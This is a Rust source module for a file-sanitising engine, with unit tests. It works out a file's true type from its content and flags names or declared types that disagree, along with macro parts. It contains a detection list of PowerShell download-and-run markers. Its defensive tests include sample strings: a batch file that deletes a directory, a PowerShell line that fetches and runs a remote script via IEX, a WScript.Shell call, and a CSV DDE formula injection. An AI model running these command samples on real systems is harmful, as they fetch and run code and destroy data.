//! True-type detection from content.
//!
//! The kind comes from the bytes only: magic numbers, the zip central directory and the package's
//! `[Content_Types].xml`, the root entries of a compound file, the PDF and RTF headers, and a look
//! at whether the bytes are text. The name and declared type an item arrived with are then
//! compared with that kind, and every disagreement is a finding.
//!
//! Detection never trusts a name to decide a kind, and it never fails: bytes it cannot place are
//! [`Kind::Unknown`]; a container whose directory cannot be read is reported as malformed so that
//! the engine blocks it.

use crate::config::Limits;
use crate::engine::Budget;
use crate::formats::zipread::ZipIndex;
use crate::formats::FormatError;
use crate::formats::{odf, ooxml};
use crate::model::Reason;
use crate::model::{Finding, FindingKind, Kind};
use std::io::Cursor;

/// What detection found out about an item.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Detected {
    pub kind: Kind,
    /// Disagreements between the name / declared type and the content, and notable contents.
    pub findings: Vec<Finding>,
    /// Set when the item looks like a container but its structure is refused (unreadable,
    /// hostile or over a limit), with the named reason.
    pub refused: Option<FormatError>,
}

impl Detected {
    fn of(kind: Kind) -> Self {
        Detected { kind, findings: Vec::new(), refused: None }
    }
    fn refused(kind: Kind, why: FormatError) -> Self {
        Detected { kind, findings: Vec::new(), refused: Some(why) }
    }
}

/// The largest `[Content_Types].xml` detection will read (real ones are a few KiB).
const MAX_CONTENT_TYPES: u64 = 4 * 1024 * 1024;

/// Detects the true kind of `data`, and compares it with `name` and `declared_type`. Containers
/// are opened within `limits`.
pub fn detect(data: &[u8], name: Option<&str>, declared_type: Option<&str>, limits: &Limits) -> Detected {
    let mut d = detect_content(data, limits);
    if let Some(name) = name {
        if let Some(ext) = extension(name) {
            // Nothing can be claimed about content that is not there: an empty file fits any name.
            let fits = d.kind.extensions().contains(&ext.as_str()) || matches!(d.kind, Kind::Unknown | Kind::Empty);
            if !fits {
                d.findings.push(Finding {
                    finding: FindingKind::ExtensionMismatch,
                    detail: Some(format!("name ends in .{ext}, content is {}", d.kind)),
                });
            }
        }
    }
    if let Some(declared) = declared_type {
        let declared = declared.split(';').next().unwrap_or("").trim().to_ascii_lowercase();
        if !declared.is_empty() && !declared_type_fits(&declared, d.kind) {
            d.findings.push(Finding {
                finding: FindingKind::DeclaredTypeMismatch,
                detail: Some(format!("declared {declared}, content is {}", d.kind)),
            });
        }
    }
    d
}

/// The lower-case extension of a file name (after the last dot), if any.
pub fn extension(name: &str) -> Option<String> {
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let (stem, ext) = base.rsplit_once('.')?;
    if stem.is_empty() || ext.is_empty() || ext.len() > 16 {
        return None;
    }
    Some(ext.trim_end_matches([' ', '.']).to_ascii_lowercase())
}

fn declared_type_fits(declared: &str, kind: Kind) -> bool {
    // Generic types say nothing about the content.
    if matches!(declared, "application/octet-stream" | "application/x-download" | "binary/octet-stream") {
        return true;
    }
    let expected: &[&str] = match kind {
        Kind::Pdf => &["application/pdf", "application/x-pdf"],
        Kind::Rtf => &["application/rtf", "text/rtf", "application/msword"],
        Kind::Zip => &["application/zip", "application/x-zip-compressed", "application/x-zip"],
        Kind::Png => &["image/png"],
        Kind::Jpeg => &["image/jpeg", "image/jpg", "image/pjpeg"],
        Kind::Gif => &["image/gif"],
        Kind::Bmp => &["image/bmp", "image/x-bmp"],
        Kind::Tiff => &["image/tiff"],
        Kind::Webp => &["image/webp"],
        Kind::Html => &["text/html", "application/xhtml+xml"],
        Kind::Text | Kind::Empty => &["text/"],
        Kind::Xml | Kind::OfficeXml => &["text/xml", "application/xml"],
        Kind::Svg => &["image/svg+xml"],
        Kind::Doc | Kind::Xls | Kind::Ppt | Kind::Vsd | Kind::Ole2Other | Kind::EncryptedOffice => {
            &["application/msword", "application/vnd.ms-", "application/vnd.visio"]
        }
        k if k.family() == crate::model::Family::Ooxml => {
            &["application/vnd.openxmlformats-officedocument.", "application/vnd.ms-"]
        }
        k if k.family() == crate::model::Family::Odf => &["application/vnd.oasis.opendocument."],
        _ => return false,
    };
    expected.iter().any(|e| declared.starts_with(e))
}

fn detect_content(data: &[u8], limits: &Limits) -> Detected {
    if data.is_empty() {
        return Detected::of(Kind::Empty);
    }
    let head = &data[..data.len().min(4096)];
    if head.starts_with(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) {
        return detect_cfb(data);
    }
    if head.starts_with(b"PK\x03\x04") || head.starts_with(b"PK\x05\x06") || head.starts_with(b"PK00PK\x03\x04") {
        return detect_zip(data, limits);
    }
    if let Some(k) = magic_kind(data) {
        return Detected::of(k);
    }
    if find(&data[..data.len().min(1024)], b"%PDF-").is_some() {
        return Detected::of(Kind::Pdf);
    }
    // Text in UTF-16 with a byte order mark (Excel's "Unicode text", Notepad's "Unicode") is
    // judged on its characters.
    let utf16 = crate::formats::text::utf16_text(data);
    let text = utf16.as_deref().map(str::as_bytes).unwrap_or(data);
    if looks_like_text(text) {
        let mut kind = text_kind(text);
        if kind == Kind::Text && looks_like_script(text) {
            return Detected::of(Kind::Script);
        }
        if kind == Kind::Text && text.starts_with(b"ID;") {
            kind = Kind::Sylk;
        }
        let mut d = Detected::of(kind);
        if crate::formats::text::has_formula_hazard(kind, text) {
            d.findings.push(Finding { finding: FindingKind::FormulaCells, detail: None });
        }
        return d;
    }
    Detected::of(Kind::Unknown)
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// RTF readers skip a byte order mark and white space before `{\rt`: such a file is RTF, not
/// text that a `keep` policy would pass unchanged.
fn starts_like_rtf(d: &[u8]) -> bool {
    let d = d.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(d);
    let start = d.iter().take(1024).position(|b| !b.is_ascii_whitespace()).unwrap_or(d.len());
    d[start..].starts_with(b"{\\rt")
}

/// Magic numbers at fixed offsets.
fn magic_kind(d: &[u8]) -> Option<Kind> {
    let s = |m: &[u8]| d.starts_with(m);
    let at = |off: usize, m: &[u8]| d.len() >= off + m.len() && &d[off..off + m.len()] == m;
    Some(if starts_like_rtf(d) {
        Kind::Rtf
    } else if s(b"MZ") {
        Kind::Pe
    } else if s(b"\x7fELF") {
        Kind::Elf
    } else if s(&[0xFE, 0xED, 0xFA, 0xCE])
        || s(&[0xFE, 0xED, 0xFA, 0xCF])
        || s(&[0xCE, 0xFA, 0xED, 0xFE])
        || s(&[0xCF, 0xFA, 0xED, 0xFE])
    {
        Kind::MachO
    } else if s(&[0xCA, 0xFE, 0xBA, 0xBE]) {
        // Shared by Java class files and Mach-O universal binaries: a class file's major
        // version (bytes 6..8) is 45 or more, a fat binary's architecture count is small.
        let n = d.get(4..8).map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]])).unwrap_or(0);
        if n < 45 {
            Kind::MachO
        } else {
            Kind::JavaClass
        }
    } else if s(&[0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]) {
        Kind::Lnk
    } else if s(b"ITSF") {
        Kind::Chm
    } else if s(&[0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3]) {
        Kind::OneNote
    } else if s(b"vhdxfile")
        || s(b"conectix")
        || at(0x8001, b"CD001")
        || at(0x8801, b"CD001")
        || at(0x9001, b"CD001")
        || (d.len() >= 512 && &d[d.len() - 512..d.len() - 504] == b"conectix")
    {
        Kind::DiskImage
    } else if s(b"#!") {
        Kind::Script
    } else if s(&[0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C]) {
        Kind::SevenZip
    } else if s(b"Rar!\x1a\x07") {
        Kind::Rar
    } else if s(&[0x1F, 0x8B]) {
        Kind::Gzip
    } else if s(b"MSCF\0\0\0\0") {
        Kind::Cab
    } else if at(257, b"ustar") {
        Kind::Tar
    } else if d.len() > 7 && d[2] == b'-' && d[6] == b'-' && (at(3, b"lh") || at(3, b"lz")) {
        Kind::Lzh
    } else if s(&[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A]) {
        Kind::Png
    } else if s(&[0xFF, 0xD8, 0xFF]) {
        Kind::Jpeg
    } else if s(b"GIF87a") || s(b"GIF89a") {
        Kind::Gif
    } else if s(b"II*\0") || s(b"MM\0*") {
        Kind::Tiff
    } else if s(b"RIFF") && at(8, b"WEBP") {
        Kind::Webp
    } else if s(b"BM") && looks_like_bmp(d) {
        Kind::Bmp
    } else {
        return None;
    })
}

fn looks_like_bmp(d: &[u8]) -> bool {
    if d.len() < 26 {
        return false;
    }
    let dib = u32::from_le_bytes([d[14], d[15], d[16], d[17]]);
    matches!(dib, 12 | 40 | 52 | 56 | 64 | 108 | 124)
}

/// Text: no NUL and (almost) no C0 control bytes. Multi-byte Japanese encodings (UTF-8,
/// Shift_JIS, EUC-JP) and ISO-2022-JP (which uses ESC) all pass.
fn looks_like_text(data: &[u8]) -> bool {
    let sample = &data[..data.len().min(64 * 1024)];
    let mut bad = 0usize;
    for &b in sample {
        match b {
            0 => return false,
            b'\t' | b'\n' | b'\r' | 0x0C | 0x1B => {}
            0x01..=0x1F | 0x7F => bad += 1,
            _ => {}
        }
    }
    // A UTF-16 text would have NULs; a stray control byte or two is tolerated.
    bad * 1000 <= sample.len()
}

fn text_kind(data: &[u8]) -> Kind {
    let head = &data[..data.len().min(8192)];
    let lower: Vec<u8> = head.iter().map(|b| b.to_ascii_lowercase()).collect();
    let trimmed = {
        let mut t: &[u8] = &lower;
        if t.starts_with(&[0xEF, 0xBB, 0xBF]) {
            t = &t[3..];
        }
        while let [first, rest @ ..] = t {
            if first.is_ascii_whitespace() {
                t = rest;
            } else {
                break;
            }
        }
        t
    };
    let has = |n: &[u8]| find(&lower, n).is_some();
    if is_mail(head) {
        return Kind::Eml;
    }
    // Before the HTML guesses: a flat OpenDocument holds `<script:...>` elements.
    if trimmed.starts_with(b"<") && odf::is_flat_document(data) {
        return Kind::FlatOdf;
    }
    // An HTML application runs with the rights of a program (mshta.exe), whatever it looks like.
    if has(b"<hta:application") {
        return Kind::Script;
    }
    if trimmed.starts_with(b"<!doctype html") || trimmed.starts_with(b"<html") {
        return Kind::Html;
    }
    // An SVG document (its first element is svg) stays SVG even when it carries a script.
    if first_element(trimmed).is_some_and(|n| n == b"svg" || n.ends_with(b":svg")) {
        return Kind::Svg;
    }
    if has(b"<script") {
        return Kind::Html;
    }
    if trimmed.starts_with(b"<") {
        // A page that opens with a comment or an XML declaration is still HTML when its html
        // element comes before any svg element (inline SVG in a page stays HTML).
        let html_at = html_start(&lower);
        let svg_at = find(&lower, b"<svg");
        if html_at.is_some_and(|h| svg_at.is_none_or(|s| h < s)) {
            return Kind::Html;
        }
        if svg_at.is_some() {
            return Kind::Svg;
        }
        if has(b"<?mso-application")
            || has(b"schemas.microsoft.com/office/word/2003/wordml")
            || has(b"schemas.microsoft.com/office/2006/xmlpackage")
            || has(b"urn:schemas-microsoft-com:office:spreadsheet")
        {
            return Kind::OfficeXml;
        }
        if has(b"<body") || has(b"<head") || has(b"<iframe") {
            return Kind::Html;
        }
        if trimmed.starts_with(b"<?xml") || trimmed.starts_with(b"<!--") || trimmed.starts_with(b"<!doctype") {
            return Kind::Xml;
        }
    }
    Kind::Text
}

/// Text that Windows runs or imports when it is opened under its usual extension, whatever
/// name it carries now: batch files, registry imports, shortcut and shell command files, and
/// Windows Script Host or PowerShell code (recognised by the objects and calls such code cannot
/// do without). Plain notes that merely mention a command do not match.
fn looks_like_script(data: &[u8]) -> bool {
    let head = &data[..data.len().min(64 * 1024)];
    let head = head.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(head);
    let lower: Vec<u8> = head.iter().map(|b| b.to_ascii_lowercase()).collect();
    let first_line: Vec<u8> = {
        let start = lower.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(lower.len());
        let rest = &lower[start..];
        rest[..rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len())].trim_ascii().to_vec()
    };
    let starts = |p: &[u8]| first_line.starts_with(p);
    if starts(b"@echo off")
        || starts(b"@echo on")
        || starts(b"windows registry editor version")
        || starts(b"regedit4")
        || starts(b"[internetshortcut]")
        || (starts(b"[shell]") && find(&lower, b"command=").is_some())
        || (starts(b"[desktop entry]") && find(&lower, b"exec=").is_some())
    {
        return true;
    }
    let has = |n: &[u8]| find(&lower, n).is_some();
    // Windows Script Host (VBScript, JScript): the host objects.
    if has(b"wscript.shell") || has(b"activexobject(") || has(b"wscript.createobject") || has(b"getobject(\"winmgmts") {
        return true;
    }
    if has(b"createobject(") && (has(b"wscript.") || has(b"shell.application") || has(b"scripting.filesystemobject")) {
        return true;
    }
    // PowerShell: downloading and running code, encoded commands, loading assemblies.
    const POWERSHELL: [&[u8]; 9] = [
        b"invoke-expression",
        b"iex(",
        b"iex (",
        b"-encodedcommand",
        b"downloadstring(",
        b"downloadfile(",
        b"net.webclient",
        b"[reflection.assembly]::load",
        b"frombase64string(",
    ];
    POWERSHELL.iter().filter(|m| has(m)).count() >= 2
}

/// The name of the first element, after any XML declaration, processing instructions, comments
/// and document type declaration (lower-cased bytes in, as detection reads them).
fn first_element(mut t: &[u8]) -> Option<&[u8]> {
    for _ in 0..64 {
        let start = t.iter().position(|b| !b.is_ascii_whitespace())?;
        t = &t[start..];
        let skip_to = |t: &[u8], end: &[u8]| find(t, end).map(|i| i + end.len());
        let next = if t.starts_with(b"<?") {
            skip_to(t, b"?>")
        } else if t.starts_with(b"<!--") {
            skip_to(t, b"-->")
        } else if t.starts_with(b"<!") {
            skip_to(t, b">")
        } else if t.starts_with(b"<") {
            let name = &t[1..];
            let end =
                name.iter().position(|b| b.is_ascii_whitespace() || matches!(b, b'>' | b'/')).unwrap_or(name.len());
            return Some(&name[..end]);
        } else {
            return None;
        };
        t = &t[next?..];
    }
    None
}

/// Where the first `<html` start tag is (followed by white space or `>`, not `<html:` or
/// `<htmlfoo`), in lower-cased bytes.
fn html_start(lower: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(i) = find(&lower[from..], b"<html") {
        let at = from + i;
        match lower.get(at + 5) {
            Some(b) if b.is_ascii_whitespace() || *b == b'>' => return Some(at),
            None => return Some(at),
            _ => from = at + 5,
        }
    }
    None
}

/// A mail message: starts with header lines and has the headers a message has.
fn is_mail(head: &[u8]) -> bool {
    // Whole lines only: a field name cut at the end of the window is not a broken header.
    let window = &head[..head.len().min(4096)];
    let window = match memchr::memrchr(b'\n', window) {
        Some(i) if head.len() > window.len() => &window[..=i],
        _ => window,
    };
    let text = String::from_utf8_lossy(window);
    let mut seen = 0;
    for (i, line) in text.lines().take(60).enumerate() {
        if line.is_empty() {
            break;
        }
        // The envelope line mbox files and saved messages start with (`From sender date`).
        if i == 0 && line.starts_with("From ") {
            continue;
        }
        if line.starts_with([' ', '\t']) {
            continue;
        }
        let Some((name, _)) = line.split_once(':') else { return false };
        if name.is_empty() || name.contains(' ') {
            return false;
        }
        let n = name.to_ascii_lowercase();
        if matches!(
            n.as_str(),
            "from" | "to" | "subject" | "date" | "message-id" | "mime-version" | "received" | "return-path"
        ) {
            seen += 1;
        }
    }
    seen >= 2
}

fn detect_cfb(data: &[u8]) -> Detected {
    let cf = match cfb::CompoundFile::open(Cursor::new(data)) {
        Ok(cf) => cf,
        Err(e) => return Detected::refused(Kind::Ole2Other, FormatError::malformed(format!("compound file: {e}"))),
    };
    let clsid = cf.root_entry().clsid().to_string().to_ascii_uppercase();
    let names: Vec<String> = cf.read_root_storage().map(|e| e.name().to_string()).collect();
    let has = |n: &str| names.iter().any(|x| x.eq_ignore_ascii_case(n));
    let kind = if has("EncryptionInfo") && has("EncryptedPackage") {
        Kind::EncryptedOffice
    } else if clsid.starts_with("000C1084") || clsid.starts_with("000C1086") || clsid.starts_with("000C1082") {
        Kind::Msi
    } else if has("WordDocument") {
        Kind::Doc
    } else if has("Workbook") || has("Book") {
        Kind::Xls
    } else if has("PowerPoint Document") {
        Kind::Ppt
    } else if has("VisioDocument") {
        Kind::Vsd
    } else if has("__properties_version1.0") || names.iter().any(|n| n.starts_with("__substg1.0_")) {
        Kind::Msg
    } else if has("DocumentText") || names.iter().any(|n| n.starts_with("JSRV_")) {
        // 一太郎 documents keep their text in a DocumentText stream.
        Kind::Jtd
    } else {
        Kind::Ole2Other
    };
    Detected::of(kind)
}

/// Zips are opened with the same validated reader the formats use (entry count checked before
/// the directory is loaded, then duplicates, overlaps, path tricks, encryption, bombs): a zip it
/// refuses is refused here, with that reader's named reason.
fn detect_zip(data: &[u8], limits: &Limits) -> Detected {
    let budget = Budget::new(limits);
    let index = match ZipIndex::open(data, &budget) {
        Ok(i) => i,
        Err(e) => return Detected::refused(Kind::Zip, e),
    };
    let has = |n: &str| index.find(n).is_some();
    if has("[Content_Types].xml") {
        let ct = match read_small(&index, "[Content_Types].xml", &budget) {
            Ok(b) => b,
            Err(e) => return Detected::refused(Kind::OoxmlOther, e),
        };
        let rels = read_small(&index, "_rels/.rels", &budget).ok();
        let kind = ooxml::package_kind(&ct, rels.as_deref());
        let mut d = Detected::of(kind);
        let macro_parts: Vec<&str> = index
            .entries()
            .iter()
            .map(|e| e.name.as_str())
            .filter(|n| {
                let l = n.to_ascii_lowercase();
                l.ends_with("vbaproject.bin") || l.contains("/macrosheets/") || l.contains("/intlmacrosheets/")
            })
            .collect();
        if !macro_parts.is_empty() {
            d.findings.push(Finding { finding: FindingKind::MacroParts, detail: Some(macro_parts.join(", ")) });
        }
        return d;
    }
    // OpenDocument: the `mimetype` entry names the type; a package without one is still told
    // apart by its manifest (and then refused by the ODF module, which requires both).
    if let Ok(m) = read_small(&index, "mimetype", &budget) {
        if let Some(kind) = std::str::from_utf8(&m).ok().and_then(odf::kind_of_media_type) {
            return Detected::of(kind);
        }
    }
    if let Ok(m) = read_small(&index, odf::manifest::NAME, &budget) {
        let max_depth = limits.max_xml_depth;
        match odf::manifest::Manifest::parse(&m, max_depth) {
            Ok(man) => {
                if let Some(kind) = man.root_media_type().and_then(odf::kind_of_media_type) {
                    return Detected::of(kind);
                }
            }
            Err(e) if e.reason == Reason::Encrypted => return Detected::of(Kind::OdfOther),
            Err(_) => {}
        }
    }
    if has("META-INF/MANIFEST.MF") || index.entries().iter().any(|e| e.name.ends_with(".class")) {
        return Detected::of(Kind::Jar);
    }
    Detected::of(Kind::Zip)
}

fn read_small(index: &ZipIndex<'_>, name: &str, budget: &Budget) -> Result<Vec<u8>, FormatError> {
    let e = index.find(name).ok_or_else(|| FormatError::malformed(format!("no {name}")))?;
    if e.size > MAX_CONTENT_TYPES {
        return Err(FormatError::new(
            Reason::LimitTotalBytes,
            format!("{name}: larger than {MAX_CONTENT_TYPES} bytes"),
        ));
    }
    index.read(e, budget)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lim() -> Limits {
        crate::config::Config::default().limits
    }

    #[test]
    fn executable_named_pdf_is_pe_with_mismatch() {
        let d = detect(b"MZ\x90\0\x03\0\0\0", Some("invoice.pdf"), None, &lim());
        assert_eq!(d.kind, Kind::Pe);
        assert!(d.findings.iter().any(|f| f.finding == FindingKind::ExtensionMismatch));
    }

    #[test]
    fn text_html_and_mail_are_told_apart() {
        assert_eq!(detect(b"hello\r\nworld\n", None, None, &lim()).kind, Kind::Text);
        assert_eq!(detect(b"<!DOCTYPE html><p>x", None, None, &lim()).kind, Kind::Html);
        assert_eq!(detect(b"From: a@b\r\nTo: c@d\r\nSubject: x\r\n\r\nbody", None, None, &lim()).kind, Kind::Eml);
        assert_eq!(
            detect(b"From a@b Mon Jan 1 00:00:00 2024\nFrom: a@b\nTo: c@d\n\nbody", None, None, &lim()).kind,
            Kind::Eml
        );
        // Long header blocks (signatures, many relays): the 4 KiB window may end inside a name.
        for pad in 0..100 {
            let mut m = format!("Received: from a by b\r\nSubject: {}\r\n", "x".repeat(pad));
            while m.len() < 6000 {
                m.push_str(&format!("X-Long-Header-Name: {}\r\n", "v".repeat(80)));
            }
            m.push_str("\r\nbody\r\n");
            assert_eq!(detect(m.as_bytes(), None, None, &lim()).kind, Kind::Eml, "pad {pad}");
        }
        assert_eq!(detect("表計算\n".as_bytes(), Some("a.csv"), None, &lim()).findings, vec![]);
    }

    #[test]
    fn hta_is_a_script_and_commented_html_is_html() {
        let hta = b"<html><head><hta:application id=x></head><body>x</body></html>";
        assert_eq!(detect(hta, Some("a.html"), None, &lim()).kind, Kind::Script);
        assert_eq!(detect(b"<!-- saved from url -->\n<html>\n<p>x", None, None, &lim()).kind, Kind::Html);
        assert_eq!(detect(b"<?xml version=\"1.0\"?><html xmlns=\"x\"><p>x", None, None, &lim()).kind, Kind::Html);
        assert_eq!(detect(b"<!-- c --><svg xmlns=\"x\"><text>html</text></svg>", None, None, &lim()).kind, Kind::Svg);
        assert_eq!(detect(b"<?xml version=\"1.0\"?><ClinicalDocument/>", None, None, &lim()).kind, Kind::Xml);
    }

    #[test]
    fn rtf_behind_a_byte_order_mark_or_white_space_is_rtf_not_text() {
        for d in [&b"{\\rtf1 a}"[..], b"\xEF\xBB\xBF{\\rtf1 a}", b"\r\n  \t{\\rtf1 a}"] {
            let got = detect(d, Some("notes.txt"), None, &lim());
            assert_eq!(got.kind, Kind::Rtf, "{:?}", String::from_utf8_lossy(d));
            assert!(!got.findings.is_empty(), "the .txt name no longer fits");
        }
        assert_eq!(detect(b"see {\\rtf1 a}", None, None, &lim()).kind, Kind::Text);
    }

    #[test]
    fn scripts_are_found_by_content_whatever_their_name() {
        for d in [
            &b"@ECHO OFF\r\ndel /q C:\\data\r\n"[..],
            b"\xEF\xBB\xBFWindows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software]\r\n",
            b"[InternetShortcut]\r\nURL=file://server/share/run.exe\r\n",
            b"Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"\r\n",
            b"var x = new ActiveXObject(\"Scripting.FileSystemObject\");\r\n",
            b"$c = (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); IEX($c)\r\n",
        ] {
            assert_eq!(detect(d, Some("notes.txt"), None, &lim()).kind, Kind::Script, "{}", String::from_utf8_lossy(d));
        }
        for d in [
            &b"Run the batch file with @echo off at the top.\r\n"[..],
            b"To update, open PowerShell and run Invoke-Expression on the script we sent.\r\n",
            "連絡事項: 明日の保守作業について\r\n".as_bytes(),
        ] {
            assert_eq!(detect(d, Some("notes.txt"), None, &lim()).kind, Kind::Text, "{}", String::from_utf8_lossy(d));
        }
    }

    #[test]
    fn utf16_text_is_text() {
        let le: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain("氏名\t点数\r\n山田\t90\r\n".encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        let be: Vec<u8> = [0xFE, 0xFF].into_iter().chain("a,b\r\n".encode_utf16().flat_map(u16::to_be_bytes)).collect();
        assert_eq!(detect(&le, Some("export.txt"), None, &lim()).kind, Kind::Text);
        assert_eq!(detect(&be, Some("export.csv"), None, &lim()).kind, Kind::Text);
        let dde: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain("a,=cmd|'/c calc'!A0\r\n".encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        assert!(detect(&dde, Some("x.csv"), None, &lim())
            .findings
            .iter()
            .any(|f| f.finding == FindingKind::FormulaCells));
    }

    #[test]
    fn random_bytes_are_unknown() {
        let mut x: u32 = 12345;
        let data: Vec<u8> = (0..4096)
            .map(|_| {
                x = x.wrapping_mul(1664525).wrapping_add(1013904223);
                (x >> 24) as u8
            })
            .collect();
        assert_eq!(detect(&data, Some("a.docx"), None, &lim()).kind, Kind::Unknown);
    }

    #[test]
    fn declared_type_is_compared() {
        let d = detect(b"%PDF-1.7\n", Some("a.pdf"), Some("image/png"), &lim());
        assert_eq!(d.kind, Kind::Pdf);
        assert!(d.findings.iter().any(|f| f.finding == FindingKind::DeclaredTypeMismatch));
        assert!(detect(b"%PDF-1.7\n", Some("a.pdf"), Some("application/pdf"), &lim()).findings.is_empty());
    }

    #[test]
    fn truncated_zip_is_malformed() {
        let d = detect(b"PK\x03\x04\x14\0\0\0\x08\0", Some("a.docx"), None, &lim());
        assert_eq!(d.refused.map(|e| e.reason), Some(Reason::Malformed));
    }
}
